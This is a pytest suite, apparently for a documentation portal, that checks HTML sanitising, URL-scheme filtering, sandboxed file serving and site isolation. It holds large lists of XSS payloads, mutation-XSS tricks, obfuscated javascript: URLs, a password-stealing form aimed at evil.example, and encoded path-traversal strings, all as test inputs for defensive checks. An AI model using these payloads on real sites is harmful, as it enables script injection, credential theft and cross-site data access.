"""Security table H: docs HTML and catalog markdown never run script in the portal.

Built pages pass through ``process_page`` (lxml extraction, the nh3 allow-list, URL
rewriting); the stored files are served as inert bytes (plain text or images under a
sandboxing CSP, ``nosniff``); page and file paths never leave their own site; catalog
text is escaped. Every check parses the output with lxml and looks at elements,
attributes and URL schemes, not at substrings alone.
"""

from __future__ import annotations

import json
import re
import textwrap

import lxml.html
import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from catalog import services as catalog
from portal.models import JobStatus
from techdocs import file_views
from techdocs.html.page import process_page
from techdocs.html.rewrite import UrlRewriter
from techdocs.html.sanitize import sanitize
from tests.techdocs.conftest import DocsRepos, build, catalog_info, site

SITE_ROOT = "/docs/default/component/a/"
FILES_ROOT = "/docs/_files/default/component/a/"
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
#: Elements that can run, load or submit something, or change how the page is read.
ACTIVE = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "base",
          "meta", "link", "form", "style", "math", "foreignobject", "animate", "set",
          "animatetransform", "animatemotion", "use", "image", "handler", "discard",
          "template", "noscript", "textarea", "select", "button", "portal", "isindex",
          "xmp", "noembed", "noframes", "plaintext", "param", "area", "map"}  # fmt: skip
#: Attributes that hold a URL somewhere in HTML, SVG or MathML.
URL_LIKE = {"href", "src", "xlink:href", "action", "formaction", "poster", "data", "srcset",
            "background", "cite", "codebase", "dynsrc", "lowsrc", "ping", "longdesc",
            "usemap", "manifest", "icon", "archive", "classid", "values", "to", "from", "by",
            "srcdoc"}  # fmt: skip
_REMOVED_BY_BROWSERS = re.compile(r"[\x00-\x20\x7f]")


def rewriter(files_root: str = FILES_ROOT) -> UrlRewriter:
    return UrlRewriter("guide/", SITE_ROOT, files_root, lambda _path: "1700000000")


def clean(fragment: str) -> str:
    return sanitize(fragment, rewrite=rewriter())


def through_page(fragment: str) -> str:
    """The whole pipeline: a Material page around ``fragment``, extracted and sanitised."""
    document = ("<html><head><title>t</title></head><body><article "
                f'class="md-content__inner md-typeset">{fragment}</article></body></html>')
    return process_page(document, page_url="guide/", site_root=SITE_ROOT,
                        files_root=FILES_ROOT, asset_version=lambda _p: "1").html  # fmt: skip


CLEANERS = pytest.mark.parametrize("cleaner", [clean, through_page], ids=["sanitize", "page"])


def scheme_of(url: str) -> str:
    """The scheme a browser would see, read conservatively: every control character and
    space removed (browsers drop tabs and newlines anywhere, controls at the ends)."""
    compact = _REMOVED_BY_BROWSERS.sub("", url)
    found = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", compact)
    return found.group(1).lower() if found else ""


def problems(html: str) -> list[str]:
    """Everything in ``html`` (parsed, and parsed again after serialising, as a browser
    re-reading ``innerHTML`` would) that could run script or leave the site's URLs."""
    found: list[str] = []
    for _round in range(2):
        root = lxml.html.fragment_fromstring(html, create_parent="div")
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            tag = element.tag.lower().rpartition("}")[2]
            if tag in ACTIVE:
                found.append(f"<{tag}>")
            for name, value in element.attrib.items():
                name = name.lower()
                if name.startswith("on") or name in ("style", "srcdoc", "http-equiv"):
                    found.append(f"<{tag} {name}>")
                elif _is_url(name) and not _safe_url(value):
                    found.append(f"<{tag} {name}={value!r}>")
        html = lxml.html.tostring(root, encoding="unicode")
    return found


def _is_url(name: str) -> bool:
    return name in URL_LIKE or name.rpartition(":")[2] in ("href", "src")


def _safe_url(value: str) -> bool:
    scheme = scheme_of(value)
    if scheme:
        return scheme in SAFE_SCHEMES
    compact = _REMOVED_BY_BROWSERS.sub("", value)
    return compact.startswith(("/docs/", "#")) and "\\" not in compact


def assert_inert(html: str) -> None:
    assert problems(html) == [], html


# --- H1: script ---------------------------------------------------------------------

SCRIPTS = [
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script type="module">window.__xss = 1</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/xss src="x.js"></script>',
    "<<script>script>alert(1)//<</script>/script>",
    "<div><script>alert(1)</script></div>",
    "<p>x<script\n>alert(1)</script\n></p>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script xlink:href="data:,alert(1)"/></svg>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<script>alert(1)",
]


@CLEANERS
@pytest.mark.parametrize("payload", SCRIPTS)
def test_h1_script_elements_are_removed(cleaner, payload: str) -> None:
    output = cleaner(payload)
    assert_inert(output)
    assert "document.cookie" not in output and "__xss" not in output


# --- H3: active content ---------------------------------------------------------------

ACTIVE_CONTENT = [
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<object data="x.swf" type="application/x-shockwave-flash"><param name=a value=b></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<meta charset="utf-7">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<form action="https://evil.example/steal"><input name=p type=password></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<input type="image" src="x" formaction="javascript:alert(1)">',
    '<input type="text" autofocus onfocus="alert(1)">',
    "<isindex action=javascript:alert(1) type=image>",
    "<applet code=evil.class></applet>",
    "<portal src=https://evil.example/></portal>",
    "<style>@import url(javascript:alert(1));</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>*{width:expression(alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="behavior:url(x.htc)">x</p>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
]


@CLEANERS
@pytest.mark.parametrize("payload", ACTIVE_CONTENT)
def test_h3_active_content_is_stripped(cleaner, payload: str) -> None:
    output = cleaner(payload)
    assert_inert(output)
    assert "expression(" not in output and "url(javascript" not in output


def test_h3_task_list_checkboxes_stay_disabled() -> None:
    root = lxml.html.fragment_fromstring(
        clean('<input type="checkbox" checked onclick="alert(1)">'), create_parent="div")
    (box,) = root.xpath(".//input")
    assert dict(box.attrib) == {"type": "checkbox", "checked": "", "disabled": "disabled"}


# --- H4: URL schemes ------------------------------------------------------------------

BAD_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    " jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
    "&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    " data:image/png;base64,iVBORw0KGgo=",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "file:///etc/passwd",
]
URL_SLOTS = [
    '<a href="{}">x</a>',
    '<img src="{}">',
    '<img src="ok.png" srcset="{} 1x, ok.png 2x">',
    '<video poster="{}" src="{}"></video>',
    '<audio src="{}"></audio>',
    '<picture><source src="{}" srcset="{}"></picture>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><image href="{}"/></svg>',
    '<form action="{}"><button formaction="{}">x</button></form>',
    '<blockquote cite="{}">q</blockquote>',
    '<table background="{}"><tr><td>x</td></tr></table>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<math href="{}"><mi>x</mi></math>',
]


@CLEANERS
@pytest.mark.parametrize("slot", URL_SLOTS)
@pytest.mark.parametrize("url", BAD_URLS)
def test_h4_only_safe_url_schemes_survive(cleaner, slot: str, url: str) -> None:
    payload = slot.replace("{}", url.replace('"', "&quot;"))
    output = cleaner(payload)
    assert_inert(output)
    assert "alert(1)" not in " ".join(_urls(output))


def _urls(html: str) -> list[str]:
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    return [value for element in root.iter() for name, value in element.attrib.items()
            if name in URL_LIKE]  # fmt: skip


@pytest.mark.parametrize(("written", "served"), [
    ("https://example.com/a?b=1&amp;c=2", "https://example.com/a?b=1&c=2"),
    ("http://example.com/", "http://example.com/"),
    ("mailto:team@example.com", "mailto:team@example.com"),
    ("//cdn.example.com/x", "https://cdn.example.com/x"),
    ("#install", "#install"),
    ("../", SITE_ROOT),
    ("setup.html", f"{SITE_ROOT}guide/setup.html"),
    ("img/d.png", f"{FILES_ROOT}guide/img/d.png?v=1700000000"),
    ("other/", f"{SITE_ROOT}guide/other/"),
])  # fmt: skip
def test_h4_ordinary_links_are_kept(written: str, served: str) -> None:
    (link,) = lxml.html.fragment_fromstring(clean(f'<a href="{written}">x</a>'),
                                            create_parent="div").xpath(".//a")  # fmt: skip
    assert link.get("href") == served


def test_h4_query_parameters_are_not_read_as_entities_twice() -> None:
    """``&reg``, ``&copy`` and ``&not`` are entities even without ``;``: a query that
    nh3 already decoded once must not be decoded again."""
    html = clean('<a href="https://example.com/?q=1&amp;region=eu&amp;copy=2&amp;not=3">x</a>')
    (link,) = lxml.html.fragment_fromstring(html, create_parent="div").xpath(".//a")
    assert link.get("href") == "https://example.com/?q=1&region=eu&copy=2&not=3"
    image = clean('<img src="img/a.png?size=1&amp;reg=2">')
    (img,) = lxml.html.fragment_fromstring(image, create_parent="div").xpath(".//img")
    assert img.get("src") == f"{FILES_ROOT}guide/img/a.png?size=1&reg=2"


def test_h4_navigation_links_use_the_same_allow_list() -> None:
    document = """<html><body><nav class="md-nav md-nav--primary"><ul>
      <li><a href="javascript:alert(1)">Evil</a></li>
      <li><a href="data:text/html,x">Data</a></li>
      <li><a href="../../../b/">Other site</a></li>
      <li><a href="setup/">Setup</a></li></ul></nav>
      <article class="md-content__inner"><h1>T</h1></article></body></html>"""
    page = process_page(document, page_url="", site_root=SITE_ROOT, files_root=FILES_ROOT)
    assert [entry["url"] for entry in page.nav] == [None, None, None, f"{SITE_ROOT}setup/"]


# --- H5: event handlers, SVG, mXSS -----------------------------------------------------

HANDLER_ELEMENTS = ["img src=x", "svg", "body", "div", "a href=#x", "p", "details open",
                    "video src=x", "audio src=x", "source src=x", "span", "table", "td",
                    "h1", "marquee", "input type=checkbox", "summary", "li", "code", "pre",
                    "svg><circle r=1", "svg><path d=M0", "label", "select", "iframe",
                    "object", "body"]  # fmt: skip
HANDLERS = ["onerror=alert(1)", "onload=alert(1)", "onclick='alert(1)'", 'onmouseover="alert(1)"',
            "onfocus=alert(1) autofocus", "ontoggle=alert(1)", "onanimationstart=alert(1)",
            "ONERROR=alert(1)", "onpointerenter = alert(1)", "onbegin=alert(1)"]  # fmt: skip


@pytest.mark.parametrize("element", HANDLER_ELEMENTS)
@pytest.mark.parametrize("handler", HANDLERS)
def test_h5_event_handlers_are_stripped(element: str, handler: str) -> None:
    tag = element.split()[0].split(">")[-1]
    assert_inert(clean(f"<{element} {handler}>x</{tag}>"))


@CLEANERS
@pytest.mark.parametrize("payload", [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x` onerror=`alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<img src="x" onerror\x0b=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject>'
    "</svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    '<text x="20" y="20">click</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    '<svg><animatetransform onbegin="alert(1)" attributeName="transform"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/></svg>',
    "<svg><image href=x onerror=alert(1)></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)'
    "</handler></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>",
    "<svg><style>@import 'javascript:alert(1)';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img'
    '&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mi><table><mi><mglyph><svg><mtext><textarea><a title="</textarea>'
    '<img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
    '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
])  # fmt: skip
def test_h5_handlers_svg_and_mutation_tricks_end_inert(cleaner, payload: str) -> None:
    assert_inert(cleaner(payload))


def test_h5_the_inline_svg_subset_survives() -> None:
    icon = ('<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">'
            '<path d="M12 2 2 22h20L12 2Z"></path></svg></span>')
    root = lxml.html.fragment_fromstring(clean(icon), create_parent="div")
    assert root.xpath(".//svg/path/@d") == ["M12 2 2 22h20L12 2Z"]


FRAGMENTS = ["<script>", "</script>", "<img", " src=x", " onerror=alert(1)", ">", "<svg",
             " onload=alert(1)", "<math>", "<mtext>", "<table>", "<mglyph>", "<style>",
             "</style>", "<noscript>", "</noscript>", '<p title="', '"', "'", '<a href="',
             "javascript:", "jav&#x09;ascript:", "&#106;", "alert(1)", "<!--", "-->", "--!>",
             "<![CDATA[", "]]>", "</p>", '<iframe srcdoc="', "<template>", "<foreignObject>",
             '<use href="data:', "<animate attributeName=href values=", "<base href=//e>",
             "&lt;", "&gt;", "&amp;", " ", "\t", "\n", "x", "/", "=", "<textarea>",
             "</textarea>", "<select>", "<title>", "</title>", "<desc>", "data:text/html,",
             "vbscript:", "<object data=", "<form action=", " style=", "<svg><a xlink:href=",
             "</svg>", "</math>", "<div>", "</div>", "`", "\x00", "<", "img/a.png",
             "../"]  # fmt: skip


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_h5_sanitizing_is_stable_and_inert_for_any_mix(markup: str) -> None:
    """Pages and files share one root here, so a second pass reads the first pass's
    portal URLs as the site's own (in the portal they are two roots)."""
    same_root = rewriter(files_root=SITE_ROOT)
    once = sanitize(markup, rewrite=same_root)
    assert sanitize(once, rewrite=same_root) == once
    assert_inert(once)


# --- H1, H2, H6, H7: a real build, read through the portal -----------------------------

XSS_INDEX = """\
# Payments

Welcome to the payments docs.

<script>alert(document.cookie)</script>

<img src="x" onerror="alert(document.cookie)">

<svg onload="alert(1)"><circle r="1"/></svg>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

[click me](javascript:alert(1)) and <a href=" jav&#x09;ascript:alert(1)">tab</a>

![diagram](img/diagram.svg)

## Overview

Money moves here.
"""
SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.cookie)</script><circle r='4'/></svg>")  # fmt: skip
HTML_AS_PNG = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


@pytest.fixture
def xss_site(repos: DocsRepos):
    repos.service("a", **{"docs/index.md": XSS_INDEX, "docs/img/diagram.svg": SVG,
                          "docs/img/evil.png": HTML_AS_PNG, "docs/evil.js": "alert(1)",
                          "docs/evil.xhtml": "<html><script>alert(1)</script></html>",
                          "docs/evil.xml": "<x/>", "docs/evil.htm": "<script>x</script>",
                          "docs/noextension": "<script>alert(1)</script>"})  # fmt: skip
    job = build("a")
    assert job.status == JobStatus.COMPLETED, job.error
    return repos.published / "default" / "component" / "a"


def _article(html: str) -> lxml.html.HtmlElement:
    (article,) = lxml.html.document_fromstring(html).xpath("//article[@class]")
    return article


@pytest.mark.django_db
def test_h1_a_built_page_with_raw_script_reaches_the_reader_clean(xss_site, reader) -> None:
    assert b"<script>alert(document.cookie)</script>" in (xss_site / "index.html").read_bytes()
    stored = site("a").published.pages.get(path="")
    assert_inert(stored.html)
    for url in (SITE_ROOT, "/catalog/default/component/a/docs"):
        response = reader.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        article = _article(html)
        assert "Welcome to the payments docs" in article.text_content()
        assert_inert(lxml.html.tostring(article, encoding="unicode"))
        document = lxml.html.document_fromstring(html)
        assert document.xpath("//@*[starts-with(name(), 'on')]") == []
        assert all(script.get("src", "").startswith("/static/")
                   for script in document.iter("script")), url  # fmt: skip
        assert "alert(document.cookie)" not in html
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy
        assert "object-src 'none'" in policy and "base-uri 'self'" in policy
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["X-Frame-Options"] == "DENY"


def _get(reader: Client, url: str):
    response = reader.get(url)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def _assert_sandboxed(response) -> None:
    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert not any(part.startswith("script-src") for part in policy)
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["index.html", "guide/setup/index.html", "404.html",
                                  "evil.xhtml", "evil.htm", "evil.js", "evil.xml", "noextension",
                                  "sitemap.xml", "search/search_index.json"])  # fmt: skip
def test_h2_stored_files_are_served_inert(xss_site, reader, path: str) -> None:
    response, body = _get(reader, FILES_ROOT + path)
    assert response.status_code == 200, path
    assert body == (xss_site / path).read_bytes()
    expected = "application/json" if path.endswith(".json") else file_views.PLAIN
    assert response["Content-Type"] == expected
    _assert_sandboxed(response)


@pytest.mark.django_db
def test_h2_caching_is_immutable_only_for_the_current_version(xss_site, reader) -> None:
    stamp = site("a").published.build_timestamp
    current, _ = _get(reader, f"{FILES_ROOT}img/evil.png?v={stamp}")
    assert current["Cache-Control"] == file_views.IMMUTABLE
    for query in ("", "?v=1", f"?v={stamp}x"):
        other, _ = _get(reader, f"{FILES_ROOT}img/evil.png{query}")
        assert other["Cache-Control"] == file_views.REVALIDATE, query
    html = reader.get(SITE_ROOT).content.decode()
    assert f'src="{FILES_ROOT}img/diagram.svg?v={stamp}"' in html


@pytest.mark.django_db
def test_h2_files_need_a_signed_in_reader(xss_site) -> None:
    for url in (FILES_ROOT + "index.html", SITE_ROOT):
        response = Client().get(url)
        assert response.status_code == 302 and "/login/" in response["Location"], url


@pytest.mark.django_db
def test_h6_an_svg_with_script_is_an_image_in_a_sandbox(xss_site, reader) -> None:
    response, body = _get(reader, FILES_ROOT + "img/diagram.svg")
    assert response.status_code == 200 and body == SVG
    assert response["Content-Type"] == "image/svg+xml"
    _assert_sandboxed(response)
    article = _article(reader.get(SITE_ROOT).content.decode())
    assert article.xpath(".//img[@alt='diagram']/@src")[0].startswith(
        FILES_ROOT + "img/diagram.svg")  # shown through <img>, where SVG never runs script


@pytest.mark.django_db
def test_h7_html_named_png_is_typed_by_its_extension(xss_site, reader) -> None:
    response, body = _get(reader, FILES_ROOT + "img/evil.png")
    assert response.status_code == 200 and body == HTML_AS_PNG
    assert response["Content-Type"] == "image/png"
    _assert_sandboxed(response)


# --- H8: paths never leave their own site ----------------------------------------------

SECRET = "b-only-secret-token"


@pytest.fixture
def two_sites(repos: DocsRepos, tmp_path):
    (tmp_path / "outside.txt").write_text(SECRET)
    repos.service("a")
    repos.service("b", **{"docs/secret.md": f"# Secret\n\n{SECRET}\n",
                          "docs/secret.txt": SECRET})  # fmt: skip
    for name in ("a", "b"):
        assert build(name).status == JobStatus.COMPLETED
    return repos


PAGE_TRAVERSALS = [
    "a/../../b/secret/", "a/../b/secret/", "a/%2e%2e/b/secret/", "a/%2E%2E/%2e%2e/b/secret/",
    "a/.%2e/b/secret/", "a/%252e%252e/b/secret/", "a/%252e%252e%252fb%252fsecret/",
    "a/..%2fb%2fsecret/", "a/..%5cb%5csecret/", "a/..\\b\\secret/", "a/....//b/secret/",
    "a/%c0%ae%c0%ae/b/secret/", "a//docs/default/component/b/secret/",
    "a/%2fdocs%2fdefault%2fcomponent%2fb%2fsecret/", "%2e%2e/component/b/secret/",
    "a/guide/../../b/secret/", "a/..;/b/secret/", "a/%00/../b/secret/",
]  # fmt: skip
FILE_TRAVERSALS = [
    "a/../b/secret.txt", "a/%2e%2e/b/secret.txt", "a/x/%2e%2e/%2e%2e/b/secret.txt",
    "a/%252e%252e/b/secret.txt", "a/..%2fb%2fsecret.txt", "a/..%5cb%5csecret.txt",
    "a/..\\b\\secret.txt", "a//default/component/b/secret.txt",
    "a/%2fdefault%2fcomponent%2fb%2fsecret.txt", "%2e%2e/component/b/secret.txt",
    "a/../../../../outside.txt", "a/%2e%2e/%2e%2e/%2e%2e/%2e%2e/outside.txt",
    "a/img/../../b/secret/index.html", "a/%00../b/secret.txt", "a/..%00/b/secret.txt",
    "a/../b/techdocs_metadata.json",
]  # fmt: skip


def _assert_same_site_or_missing(response, site_root: str) -> None:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert SECRET.encode() not in body
    if response.status_code in (301, 302):
        assert response["Location"].startswith(site_root), response["Location"]
    else:
        assert response.status_code in (400, 404), response.status_code


@pytest.mark.django_db
@pytest.mark.parametrize("path", PAGE_TRAVERSALS)
def test_h8_page_paths_never_reach_another_site(two_sites, reader, path: str) -> None:
    assert SECRET in reader.get("/docs/default/component/b/secret/").content.decode()
    _assert_same_site_or_missing(reader.get(f"/docs/default/component/{path}"), SITE_ROOT)


@pytest.mark.django_db
@pytest.mark.parametrize("path", FILE_TRAVERSALS)
def test_h8_file_paths_never_reach_another_site_or_outside_storage(
    two_sites, reader, path: str
) -> None:
    assert _get(reader, "/docs/_files/default/component/b/secret.txt")[1] == SECRET.encode()
    _assert_same_site_or_missing(reader.get(f"/docs/_files/default/component/{path}"),
                                 FILES_ROOT)  # fmt: skip


@pytest.mark.django_db
def test_h8_a_mixed_case_address_redirects_within_the_same_site(two_sites, reader) -> None:
    response = reader.get("/docs/Default/Component/A/guide/setup/")
    assert response.status_code == 301
    assert response["Location"] == f"{SITE_ROOT}guide/setup/"


def test_h8_links_written_in_a_page_cannot_point_into_another_site() -> None:
    html = clean('<a href="../../b/secret/">1</a><a href="/docs/default/component/b/">2</a>'
                 '<a href="%2e%2e/%2e%2e/b/">3</a><img src="../../../b/img/x.png">'
                 '<a href="/docs/_files/default/component/b/secret.txt">4</a>'
                 '<a href="..%2f..%2fb%2f">5</a><a href="/\\evil.example/">6</a>')  # fmt: skip
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    assert root.xpath(".//@href | .//@src") == []


# --- H9: catalog text is escaped ----------------------------------------------------------

EVIL_DESCRIPTION = "**bold** <script>alert('desc')</script><img src=x onerror=alert(2)>"
EVIL_TITLE = "<img src=x onerror=alert(4)>Evil title"
EVIL_CATALOG = textwrap.dedent(f"""\
    apiVersion: backstage.io/v1alpha1
    kind: Component
    metadata:
      name: a
      title: {json.dumps(EVIL_TITLE)}
      description: {json.dumps(EVIL_DESCRIPTION)}
      annotations:
        backstage.io/techdocs-ref: dir:.
    spec: {{type: service, lifecycle: production, owner: team-a}}
    """)
EVIL_MKDOCS = (f"site_name: {json.dumps('<script>alert(5)</script>Docs')}\n"
               f"site_description: {json.dumps('<img src=x onerror=alert(6)> described')}\n"
               "plugins:\n  - techdocs-core\n")  # fmt: skip


def _assert_escaped_page(html: str, *texts: str) -> None:
    document = lxml.html.document_fromstring(html)
    assert document.xpath("//@*[starts-with(name(), 'on')]") == []
    assert all(script.get("src") for script in document.iter("script"))
    assert not [img for img in document.iter("img") if img.get("src") == "x"]
    shown = document.text_content()
    for text in texts:
        assert text in shown, text


@pytest.mark.django_db
def test_h9_catalog_descriptions_and_titles_are_escaped(repos: DocsRepos, reader) -> None:
    assert "description" not in catalog_info("a")  # the repo's own file is replaced below
    repos.service("a", **{"catalog-info.yaml": EVIL_CATALOG, "mkdocs.yml": EVIL_MKDOCS})
    assert build("a").status == JobStatus.COMPLETED
    from techdocs.sites import sync_sites

    sync_sites()
    pages = {"/catalog/default/component/a": (EVIL_DESCRIPTION, "Evil title"),
             "/catalog/": ("<script>alert('desc')</script>",),
             "/docs/": ("<script>alert(5)</script>Docs", "<img src=x onerror=alert(6)>"),
             SITE_ROOT: ("<script>alert(5)</script>Docs", "<img src=x onerror=alert(6)>")}
    for url, texts in pages.items():
        response = reader.get(url)
        assert response.status_code == 200, url
        _assert_escaped_page(response.content.decode(), *texts)


@pytest.mark.parametrize("text", [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x]( jav&#x09;ascript:alert(1))", "![i](javascript:alert(1))",
    '<a href="javascript:alert(1)">x</a>', "<svg onload=alert(1)>",
    "[x](vbscript:msgbox(1))", "`<script>`", "<math><mtext><table><mglyph><style><img src=x>",
])  # fmt: skip
def test_h9_catalog_markdown_renders_in_safe_mode(text: str) -> None:
    html = str(catalog.markdown_html(f"Intro\n\n{text}\n"))
    root = lxml.html.fragment_fromstring(html, create_parent="div")
    assert not [e for e in root.iter() if e.tag in ACTIVE or e.tag in ("img", "svg")]
    assert root.xpath(".//@*[starts-with(name(), 'on')]") == []
    unsafe = [href for href in root.xpath(".//a/@href")
              if scheme_of(href) not in {"", "http", "https", "mailto"}]  # "": a relative URL
    assert unsafe == []


@pytest.mark.parametrize("markup", [
    # nh3 wrote a <p> inside a <p> (misnested input), which reads back as two
    '<p title="&#106;<p title="\t</p><object data=<form action=</noscript> onload=alert(1) '
    "style==</p></noscript>&gt;</textarea> <script><!-- onload=alert(1)</title> style=<title>"
    "<!-- onload=alert(1)</noscript>-->\t/<svg<div><mtext>",
    '<a href="x"><svg><a xlink:href="y">z</a></svg></a>',
])  # fmt: skip
def test_h5_misnested_markup_is_stored_as_a_browser_reads_it(markup: str) -> None:
    same_root = rewriter(files_root=SITE_ROOT)
    once = sanitize(markup, rewrite=same_root)
    assert sanitize(once, rewrite=same_root) == once
    assert_inert(once)


@pytest.mark.parametrize("url", ["//[not-an-address]/x", "http://[::1", "//<svg<a>]]>"])
def test_h5_a_url_no_parser_can_read_is_dropped(url: str) -> None:
    html = sanitize(f'<a href="{url}">x</a><img src="{url}">', rewrite=rewriter())
    assert "href" not in html and "src" not in html
